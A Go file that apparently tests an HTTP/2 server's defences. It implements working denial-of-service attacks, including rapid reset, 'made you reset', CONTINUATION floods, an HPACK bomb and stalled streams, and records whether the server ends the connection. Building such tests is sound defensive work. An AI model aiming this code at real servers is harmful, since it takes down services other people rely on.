//go:build linux

package main

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"errors"
	"io"
	"math/rand/v2"
	"net"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// An attack sends what costs a server work and asks for nothing. step sends its i-th piece.
type attack struct {
	name  string
	holds bool // it waits rather than sends
	begin func(a *attacker)
	step  func(a *attacker, i uint32)
}

// An attacker is one connection of an attack.
type attacker struct {
	*http2.Framer
	c      net.Conn
	out    *counted
	block  bytes.Buffer
	enc    *hpack.Encoder
	random *rand.Rand
}

// counted counts the frames that are written.
type counted struct {
	*bufio.Writer
	frames int
}

func (w *counted) Write(p []byte) (int, error) {
	w.frames++ // the framer writes each frame at once
	return w.Writer.Write(p)
}

func id(i uint32) uint32 { return 2*i + 1 }

// headers returns a block of a request, with further fields.
func (a *attacker) headers(path string, more ...string) []byte {
	a.block.Reset()
	fields := append([]string{":method", "GET", ":scheme", "https", ":authority", "h", ":path", path}, more...)
	for i := 0; i < len(fields); i += 2 {
		a.enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]}) // it is memory
	}
	return a.block.Bytes()
}

func (a *attacker) ask(id uint32, end bool, path string, more ...string) {
	a.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: a.headers(path, more...), EndStream: end, EndHeaders: true})
}

// attacks are all that are known, each with what it is called in the literature where it has a name.
var attacks = []attack{
	{name: "ping", step: func(a *attacker, _ uint32) { a.WritePing(false, [8]byte{}) }},
	{name: "ping, acknowledged", step: func(a *attacker, _ uint32) { a.WritePing(true, [8]byte{}) }},
	{name: "settings", step: func(a *attacker, _ uint32) { a.WriteSettings() }},
	{name: "settings, windows", begin: slow, step: func(a *attacker, i uint32) {
		a.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1000 + i%2})
	}},
	{name: "settings, acknowledged", step: func(a *attacker, _ uint32) { a.WriteSettingsAck() }},
	{name: "goaway", step: func(a *attacker, _ uint32) { a.WriteGoAway(0, http2.ErrCodeNo, nil) }},
	{name: "unknown frames", step: func(a *attacker, _ uint32) { a.WriteRawFrame(0xfe, 0, 7, nil) }},
	{name: "priority", step: func(a *attacker, i uint32) { a.WritePriority(5, http2.PriorityParam{StreamDep: 3, Weight: uint8(i)}) }},
	{name: "priority update", step: func(a *attacker, _ uint32) { a.WriteRawFrame(0x10, 0, 0, []byte("\x00\x00\x00\x05u=1")) }},
	{name: "window", step: func(a *attacker, _ uint32) { a.WriteWindowUpdate(0, 1) }},
	{name: "window of a stream", begin: slow, step: func(a *attacker, _ uint32) { a.WriteWindowUpdate(1, 1) }},
	{name: "empty data", begin: upload, step: func(a *attacker, _ uint32) { a.WriteData(1, false, nil) }},
	{name: "padding alone", begin: upload, step: func(a *attacker, _ uint32) { a.WriteDataPadded(1, false, nil, make([]byte, 8)) }},
	{name: "data after a reset", begin: func(a *attacker) { upload(a); a.WriteRSTStream(1, http2.ErrCodeCancel) },
		step: func(a *attacker, _ uint32) { a.WriteData(1, false, []byte("x")) }},
	{name: "resets of a closed stream", begin: func(a *attacker) { upload(a) },
		step: func(a *attacker, _ uint32) { a.WriteRSTStream(1, http2.ErrCodeCancel) }},
	{name: "rapid reset", step: func(a *attacker, i uint32) { a.ask(id(i), true, "/slow"); a.WriteRSTStream(id(i), http2.ErrCodeCancel) }},
	{name: "rapid reset, a little later", step: func(a *attacker, i uint32) {
		a.ask(id(i), true, "/slow")
		a.out.Flush() // the next write tells
		a.WriteRSTStream(id(i), http2.ErrCodeCancel)
	}},
	{name: "made you reset: no increment", step: func(a *attacker, i uint32) { a.ask(id(i), true, "/slow"); a.WriteWindowUpdate(id(i), 0) }},
	{name: "made you reset: overflow", step: func(a *attacker, i uint32) { a.ask(id(i), true, "/slow"); a.WriteWindowUpdate(id(i), 1<<31-1) }},
	{name: "made you reset: data after the end", step: func(a *attacker, i uint32) { a.ask(id(i), true, "/slow"); a.WriteData(id(i), true, nil) }},
	{name: "made you reset: priority", step: func(a *attacker, i uint32) {
		a.ask(id(i), true, "/slow")
		a.WriteRawFrame(http2.FramePriority, 0, id(i), []byte("x"))
	}},
	{name: "malformed requests", step: func(a *attacker, i uint32) { a.ask(id(i), true, "/", "connection", "close") }},
	{name: "above the limit of streams", step: func(a *attacker, i uint32) { a.ask(id(i), true, "/slow") }},
	{name: "large heads", step: func(a *attacker, i uint32) {
		a.ask(id(i), true, "/", "a", strings.Repeat("a", 12_000), "b", strings.Repeat("a", 11_000))
	}},
	{name: "continuation, small", step: continued(1)},
	{name: "continuation, empty", step: continued(0)},
	{name: "continuation, large", step: continued(4000)},
	{name: "hpack bomb", begin: func(a *attacker) { a.ask(1, true, "/", "x-large", strings.Repeat("x", 3900)) },
		step: func(a *attacker, i uint32) {
			a.WriteHeaders(http2.HeadersFrameParam{StreamID: id(i + 1), BlockFragment: bytes.Repeat([]byte{0xbe}, 16_000), EndStream: true, EndHeaders: true})
		}},
	{name: "random frames", step: randomFrame},
	{name: "random bytes", step: func(a *attacker, _ uint32) { a.out.Write([]byte{byte(a.random.Uint32()), byte(a.random.Uint32())}) }},
	{name: "no window", holds: true, step: func(a *attacker, i uint32) {
		if i == 0 {
			a.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		}
		a.ask(id(i), true, "/large")
	}},
	{name: "stalled uploads", holds: true, step: func(a *attacker, i uint32) {
		a.ask(id(2*i), false, "/echo")
		a.ask(id(2*i+1), false, "/echo", "content-length", "100000")
		a.WriteData(id(2*i+1), false, make([]byte, 10_000))
	}},
	{name: "a head that never ends", holds: true, step: func(a *attacker, i uint32) {
		if i == 0 {
			a.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: a.headers("/")})
		}
	}},
	{name: "a reader that stops", holds: true, begin: func(a *attacker) {
		a.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 30})
		a.WriteWindowUpdate(0, 1<<30)
	}, step: func(a *attacker, i uint32) { a.ask(id(i), true, "/large") }},
}

func slow(a *attacker)   { a.ask(1, true, "/slow") }
func upload(a *attacker) { a.ask(1, false, "/echo") }

func continued(size int) func(*attacker, uint32) {
	return func(a *attacker, i uint32) {
		if i == 0 {
			a.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: a.headers("/")})
		}
		a.block.Reset()
		if size > 0 {
			a.enc.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("x", size), Sensitive: true}) // it is memory
		}
		a.WriteContinuation(1, false, a.block.Bytes())
	}
}

// randomFrame sends what is nearly right: types, streams and sizes that exist, and now and then some that do not.
func randomFrame(a *attacker, i uint32) {
	r := a.random
	at := id(r.Uint32N(i/4 + 3))
	switch r.IntN(12) {
	case 0, 1, 2:
		a.ask(id(i), r.IntN(3) > 0, []string{"/", "/echo", "/slow", "/large", "/x y", "*"}[r.IntN(6)], "content-length", []string{"0", "10", "x"}[r.IntN(3)])
	case 3:
		a.ask(id(i), true, "/", "x-"+strings.Repeat("y", r.IntN(50)), strings.Repeat("z", r.IntN(5000)))
	case 4:
		a.WriteData(at, r.IntN(2) == 0, make([]byte, r.IntN(2000)))
	case 5:
		a.WriteRSTStream(at, http2.ErrCode(r.Uint32N(20)))
	case 6:
		a.WriteWindowUpdate(at&^(r.Uint32N(2)), r.Uint32()>>r.IntN(32))
	case 7:
		a.WriteSettings(http2.Setting{ID: http2.SettingID(r.Uint32N(12)), Val: r.Uint32() >> r.IntN(32)})
	case 8:
		a.WritePing(r.IntN(2) == 0, [8]byte{})
	case 9:
		a.WriteRawFrame(0x10, 0, 0, []byte("\x00\x00\x00\x05u=1, i"))
	case 10:
		a.WriteContinuation(at, r.IntN(2) == 0, []byte{0x82})
	default:
		payload := make([]byte, r.IntN(64))
		a.WriteRawFrame(http2.FrameType(r.Uint32N(18)), http2.Flags(r.Uint32()), at, payload)
	}
}

// An end is how an attack ended.
type end struct {
	frames int    // that were sent
	how    string // "goaway CODE", "closed", or "not ended"
}

// run makes an attack on a server, of so many frames at most, or, if it holds, for so long. paced leaves the server time to end it, so
// that what is on the way does not count.
func (k *attack) run(address string, frames int, hold time.Duration, seed uint64, paced bool) (end, error) {
	c, err := tls.Dial("tcp", address, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	if err != nil {
		return end{}, err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(hold + 30*time.Second)) // a TCP socket has deadlines
	a := &attacker{c: c, out: &counted{Writer: bufio.NewWriter(c)}, random: rand.New(rand.NewPCG(seed, 0))}
	a.Framer = http2.NewFramer(a.out, bufio.NewReader(c))
	a.AllowIllegalWrites, a.AllowIllegalReads = true, true
	a.enc = hpack.NewEncoder(&a.block)
	a.out.WriteString(http2.ClientPreface) // the flush tells
	a.WriteSettings()
	a.WriteSettingsAck()
	if k.begin != nil {
		k.begin(a)
	}
	if err := a.out.Flush(); err != nil {
		return end{}, err
	}
	var over atomic.Bool
	how := make(chan string, 1)
	if k.name != "a reader that stops" {
		go func() { how <- a.listen(&over) }()
	}
	steps := frames
	if k.holds {
		steps = 50
	}
	before := a.out.frames
	for i := uint32(0); int(i) < steps && a.out.frames-before < frames && !over.Load(); i++ {
		k.step(a, i)
		if i%16 != 15 {
			continue
		}
		if a.out.Flush() != nil {
			break
		}
		if paced {
			time.Sleep(time.Millisecond)
		}
	}
	sent := a.out.frames - before
	a.out.Flush() // the reader tells
	wait := 2 * time.Second
	if k.holds {
		wait = hold
	}
	select {
	case h := <-how:
		return end{sent, h}, nil
	case <-time.After(wait):
		return end{sent, "not ended"}, nil
	}
}

// listen reads until the connection ends.
func (a *attacker) listen(over *atomic.Bool) string {
	defer over.Store(true)
	how := "closed"
	for {
		f, err := a.ReadFrame()
		var stream http2.StreamError
		switch {
		case errors.As(err, &stream):
			continue
		case err != nil:
			return how
		}
		if g, ok := f.(*http2.GoAwayFrame); ok {
			how = "goaway " + g.ErrCode.String()
			over.Store(true)
			io.Copy(io.Discard, a.c) // until the end
			return how
		}
	}
}
